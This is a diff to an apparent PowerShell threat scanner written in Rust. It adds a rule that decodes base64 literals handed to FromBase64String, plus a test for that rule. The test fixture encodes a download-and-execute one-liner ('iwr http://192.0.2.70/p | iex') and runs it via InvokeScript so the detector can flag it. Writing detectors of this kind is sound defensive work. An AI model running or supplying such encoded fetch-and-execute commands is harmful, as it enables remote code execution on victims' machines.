@@ -195,6 +195,18 @@ fn statement(ctx: &mut Ctx<'_>, unit: &Unit<'_>, s: &Statement, vars: &mut Vars)
             ctx.payload(unit, s.span.clone(), &["base64", "utf-16le"], &code);
         }
     }
+    // A base64 literal decoded in place: its text is read again.
+    static LITERAL: LazyLock<Regex> =
+        LazyLock::new(|| re(r"frombase64string\(\s*'([A-Za-z0-9+/]{16,}={0,2})'"));
+    if let Some(c) = LITERAL.captures(t).and_then(|c| c.get(1))
+        && let Ok(bytes) = base64::engine::general_purpose::STANDARD_NO_PAD
+            .decode(c.as_str().trim_end_matches('=').as_bytes())
+    {
+        let code = utf16le(&bytes);
+        if !code.is_empty() {
+            ctx.payload(unit, s.span.clone(), &["base64"], &code);
+        }
+    }
     // Secrets to the network.
     if (SEND.is_match(t) || downloads && t.contains("-body"))
         && !local
@@ -446,6 +458,23 @@ mod tests {
             found
                 .iter()
                 .any(|(c, s)| *c == id::EncodedPayload.code && *s == Severity::Critical),
+            "{found:?}"
+        );
+        let b64 = base64::engine::general_purpose::STANDARD.encode(
+            "iwr http://192.0.2.70/p | iex"
+                .encode_utf16()
+                .flat_map(u16::to_le_bytes)
+                .collect::<Vec<u8>>(),
+        );
+        let found = rules(&format!(
+            "$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64}'))\n$ExecutionContext.InvokeCommand.InvokeScript($s)\n"
+        ));
+        assert!(
+            has(&found, id::DecodeExecute, Severity::Critical),
+            "{found:?}"
+        );
+        assert!(
+            has(&found, id::EncodedPayload, Severity::Critical),
             "{found:?}"
         );
     }
